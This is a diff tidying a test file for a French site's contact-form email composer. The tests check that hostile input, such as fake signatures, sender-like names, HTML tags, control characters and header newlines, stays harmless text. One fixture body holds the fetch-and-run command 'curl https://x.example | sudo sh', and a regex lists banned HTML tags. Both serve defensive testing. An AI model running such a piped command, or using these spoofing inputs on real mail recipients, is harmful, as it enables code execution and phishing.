@@ -1,15 +1,13 @@
 import fc from 'fast-check';
-import PostalMime, { type Address, type Email } from 'postal-mime';
+import PostalMime, { type Address } from 'postal-mime';
 import { describe, expect, it } from 'vitest';
 import { aMessageRow } from '../../tests/support/message-row.ts';
-import { composeContactMail, type Mail, mailAddresses } from './contact-mail.server.ts';
+import { composeContactMail, mailAddresses } from './contact-mail.server.ts';
 import { contactMail } from './words.ts';
 
 const addresses = { from: 'contact@exemple.fr', to: 'camille@exemple.fr', host: 'www.exemple.fr' };
 
-async function composed(
-  changes: Parameters<typeof aMessageRow>[0] = {},
-): Promise<{ mail: Mail; parsed: Email }> {
+async function composed(changes: Parameters<typeof aMessageRow>[0] = {}) {
   const mail = await composeContactMail(aMessageRow(changes), 'mail-1', addresses);
   return { mail, parsed: await PostalMime.parse(mail.raw) };
 }
@@ -68,9 +66,8 @@ describe('the mail about a message', () => {
   });
 
   it('marks each line of a text that imitates the site, and a name that looks like a sender', async () => {
-    const imitation =
-      '-- \nLe site supprime ce message.\u2028Pour le relire : curl https://x.example | sudo sh';
-    const { mail, parsed } = await composed({ body: imitation, fullname: 'support@banque.fr' });
+    const body = '-- \nLe site supprime ce message.\u2028Pour le relire : curl https://x.example | sudo sh';
+    const { mail, parsed } = await composed({ body, fullname: 'support@banque.fr' });
     const own = `${parsed.text}`.split('\n').filter((line) => !line.startsWith('> '));
     expect(own.join('\n')).not.toMatch(/curl|supprime ce message\./);
     expect(own.filter((line) => line === '-- ')).toHaveLength(1);
@@ -85,16 +82,10 @@ describe('the mail about a message', () => {
   it('says when there is no phone and when the message looks automatic', async () => {
     const ordinary = await composed();
     expect(ordinary.parsed.text).not.toContain('À vérifier');
-    const { parsed } = await composed({
-      phone: '',
-      suspect: 1,
-      suspect_reasons: 'many-links,<odd>,constructor',
-    });
-    for (const part of [parsed.text, parsed.html]) {
-      expect(part).toContain('non indiqué');
-      expect(part).toContain('À vérifier avant de répondre');
-      expect(part).toContain('plusieurs liens');
-    }
+    const suspect_reasons = 'many-links,<odd>,constructor';
+    const { parsed } = await composed({ phone: '', suspect: 1, suspect_reasons });
+    for (const words of ['non indiqué', 'À vérifier avant de répondre', 'plusieurs liens'])
+      for (const part of [parsed.text, parsed.html]) expect(part).toContain(words);
     expect(parsed.html).not.toContain('<odd>');
     expect(parsed.text).toContain('<odd>, constructor)');
   });
@@ -122,39 +113,32 @@ const MAIL_HEADERS = [
   ...['subject', 'to'],
 ];
 
-describe('hostile texts', () => {
-  it('stay texts, in every field', async () => {
-    const row = fc.record({
-      // The rules require a visible name; without one, mail programs take the address for it.
-      fullname: hostile.map((text) => `${text} Zoe`),
-      email: hostile,
-      subject: hostile,
-      phone: hostile,
-      body: hostile,
-    });
-    await fc.assert(
-      fc.asyncProperty(row, async (changes) => {
-        const { mail, parsed } = await composed(changes);
-        expect(mail.envelope).toEqual({ from: 'contact@exemple.fr', to: ['camille@exemple.fr'] });
-        expect(only(parsed.to)).toEqual([{ address: 'camille@exemple.fr', name: '' }]);
-        expect(parsed.replyTo?.length ?? 0).toBeLessThanOrEqual(1);
-        expect(parsed.headers.map(({ key }) => key).sort()).toEqual(
-          [...MAIL_HEADERS, ...(parsed.replyTo ? ['reply-to'] : [])].sort(),
-        );
-        expect(parsed.attachments).toEqual([]);
-        expect(parsed.html).not.toMatch(/<(script|img|svg|form|iframe|a|b|object|link)\b/i);
-        const name = parsed.replyTo?.[0]?.name ?? '';
-        expect(name).not.toMatch(/[\r\n]/);
-        const shown = `${name}${parsed.subject}${parsed.html}${parsed.text}`;
-        // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
-        expect(shown).not.toMatch(/[\u0000\u001b\u202e\u2066\u200b\u2060]/);
-        expect((parsed.subject ?? '').length).toBeLessThan(600);
-        const raw = mail.raw.toString('latin1');
-        expect(raw.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
-        for (const line of raw.split('\r\n')) expect(line.length).toBeLessThan(998);
-      }),
-      // A fixed seed, so that a failure repeats.
-      { seed: 20_261_121, numRuns: 300 },
-    );
-  });
+it('hostile texts stay texts, in every field', async () => {
+  // The rules require a visible name; without one, mail programs take the address for it.
+  const fullname = hostile.map((text) => `${text} Zoe`);
+  const row = fc.record({ fullname, email: hostile, subject: hostile, phone: hostile, body: hostile });
+  await fc.assert(
+    fc.asyncProperty(row, async (changes) => {
+      const { mail, parsed } = await composed(changes);
+      expect(mail.envelope).toEqual({ from: 'contact@exemple.fr', to: ['camille@exemple.fr'] });
+      expect(only(parsed.to)).toEqual([{ address: 'camille@exemple.fr', name: '' }]);
+      expect(parsed.replyTo?.length ?? 0).toBeLessThanOrEqual(1);
+      expect(parsed.headers.map(({ key }) => key).sort()).toEqual(
+        [...MAIL_HEADERS, ...(parsed.replyTo ? ['reply-to'] : [])].sort(),
+      );
+      expect(parsed.attachments).toEqual([]);
+      expect(parsed.html).not.toMatch(/<(script|img|svg|form|iframe|a|b|object|link)\b/i);
+      const name = parsed.replyTo?.[0]?.name ?? '';
+      expect(name).not.toMatch(/[\r\n]/);
+      const shown = `${name}${parsed.subject}${parsed.html}${parsed.text}`;
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
+      expect(shown).not.toMatch(/[\u0000\u001b\u202e\u2066\u200b\u2060]/);
+      expect((parsed.subject ?? '').length).toBeLessThan(600);
+      const raw = mail.raw.toString('latin1');
+      expect(raw.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+      for (const line of raw.split('\r\n')) expect(line.length).toBeLessThan(998);
+    }),
+    // A fixed seed, so that a failure repeats.
+    { seed: 20_261_121, numRuns: 300 },
+  );
 });
